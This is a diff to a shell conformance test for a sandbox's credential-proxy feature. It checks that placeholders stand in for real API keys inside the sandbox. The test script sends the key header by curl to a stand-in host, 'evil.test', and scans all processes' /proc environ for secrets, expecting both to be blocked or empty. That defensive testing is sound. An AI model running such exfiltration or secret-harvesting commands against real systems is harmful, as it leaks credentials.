@@ -29,11 +29,11 @@ export CONFORMANCE_SECRET=do-not-leak
 # The probe binary attempts what the seccomp filter denies.
 probe_pkg=""
 [ -x "${ASB_PROBE:-}" ] && probe_pkg=", \"$ASB_PROBE\""
-cfg() { # name network-group [extra sandbox keys]
+cfg() { # name network-group [extra sandbox keys] [extra packages: , "a", "b"]
     cat >"$TEST_TMP/$1.cfg" <<CFG
 sandbox: {
   command = "bash";
-  packages = [ "cat"$probe_pkg ];
+  packages = [ "cat"$probe_pkg${4:-} ];
   rw_dirs = [ "\$HOME/rw" ];
   ro_dirs = [ "\$HOME/ro" ];
   env = { DECLARED = "yes"; };
@@ -179,6 +179,52 @@ print(s.getsockname()[1], flush=True); time.sleep(120)' >"$TEST_TMP/port" &
 else
     refused off network
     refused filtered network
+fi
+
+# --- credentials ------------------------------------------------------------------
+# network.credentials with this backend: the agent holds placeholders (a
+# variable, a file), the bound origin gets the real value through the proxy,
+# and the placeholder sent elsewhere is refused. A backend without the
+# filtered network cannot carry them: the launch is refused.
+CRED_REAL=sk-ant-api03-CONFREAL$(head -c 32 /dev/urandom | od -An -tx1 | tr -d ' \n')
+FILE_REAL=CONFREALfile$(head -c 16 /dev/urandom | od -An -tx1 | tr -d ' \n')
+printf '%s\n' "$FILE_REAL" >"$TEST_TMP/cred-file"
+export CONF_API_KEY=$CRED_REAL
+cred_net='allowed_domains = ( { domain = "api.test"; @PORTS@ allow_private = true; },
+    { domain = "evil.test"; @PORTS@ allow_private = true; } );
+  credentials = (
+    { name = "api"; value = "${CONF_API_KEY}"; domains = [ "api.test" ]; header = "x-api-key"; env = "CONF_API_KEY"; },
+    { name = "tok"; value_file = "'"$TEST_TMP"'/cred-file"; domains = [ "api.test" ]; bearer = true; file = "$HOME/.config/tool/token"; }
+  );'
+if [ "$(state filtered network)" = applied ] && command -v curl >/dev/null && command -v openssl >/dev/null &&
+    (mkdir -p "$TEST_TMP/pki" && cd "$TEST_TMP/pki" && make_test_pki api.test evil.test); then
+    (cd "$TEST_TMP/pki" && exec env ASB_RECORD="$TEST_TMP/record" python3 "$SRC_ROOT/tests/proxy/servers.py" ports srv.pem srv.key 2>servers.err) &
+    at_exit "kill $! 2>/dev/null"
+    for _ in $(seq 100); do [ -s "$TEST_TMP/pki/ports" ] && break; sleep 0.1; done
+    read -r _ SP <"$TEST_TMP/pki/ports"
+    printf '127.0.0.1 api.test evil.test\n' >"$TEST_TMP/hosts"
+    cfg creds "${cred_net//@PORTS@/ports = [ $SP ];} hosts_file = \"$TEST_TMP/hosts\"; upstream_ca_file = \"$TEST_TMP/pki/upca.pem\";" \
+        '' ', "curl"'
+    : >"$TEST_TMP/record"
+    out=$(run creds '
+printf "%s\n" "$CONF_API_KEY"; cat "$HOME/.config/tool/token"
+curl -sS -o /dev/null -w "%{http_code}\n" -H "x-api-key: $CONF_API_KEY" -H "Authorization: Bearer $(cat $HOME/.config/tool/token)" https://api.test:'"$SP"'/record
+curl -sS -o /dev/null -w "%{http_code}\n" -H "x-api-key: $CONF_API_KEY" https://evil.test:'"$SP"'/record
+cat /proc/[0-9]*/environ 2>/dev/null | tr "\0" "\n" | grep -c CONFREAL' 2>"$TEST_TMP/creds.err")
+    ph=$(sed -n 1p <<<"$out")
+    [ "$(wc -l <<<"$out")" = 5 ] || diag "$out $(cat "$TEST_TMP/creds.err")"
+    ok $([[ "$ph" == sk-ant-api03-* ]] && [ ${#ph} = ${#CRED_REAL} ] && [ "$ph" != "$CRED_REAL" ] &&
+        [ "$(sed -n 2p <<<"$out")" != "$FILE_REAL" ] && [ "$(sed -n 2p <<<"$out" | wc -c)" = "$(wc -c <"$TEST_TMP/cred-file")" ]; echo $?) \
+        "credentials: the variable and the file inside hold placeholders"
+    ok $([ "$(sed -n 3,4p <<<"$out" | tr '\n' ' ')" = "200 403 " ]; echo $?) \
+        "credentials: the bound origin answers, the placeholder to another host is refused ($(sed -n 3,4p <<<"$out" | tr '\n' ' '))"
+    ok $(grep -q "^x-api-key: $CRED_REAL" "$TEST_TMP/record" && grep -q "^Authorization: Bearer $FILE_REAL" "$TEST_TMP/record" &&
+        [ "$(grep -c '^GET /record' "$TEST_TMP/record")" = 1 ]; echo $?) "credentials: the origin received the real values, the other host nothing"
+    ok $([ "$(sed -n 5p <<<"$out")" = 0 ] && ! grep -rqaF -e "$CRED_REAL" -e "$FILE_REAL" "$(sessions | tail -1)"; echo $?) \
+        "credentials: no real value in any process's environment inside, nor in the session directory"
+elif [ "$(state filtered network)" != applied ]; then
+    cfg creds "${cred_net//@PORTS@/}"
+    refused creds network
 fi
 
 # --- kernel hardening -----------------------------------------------------------
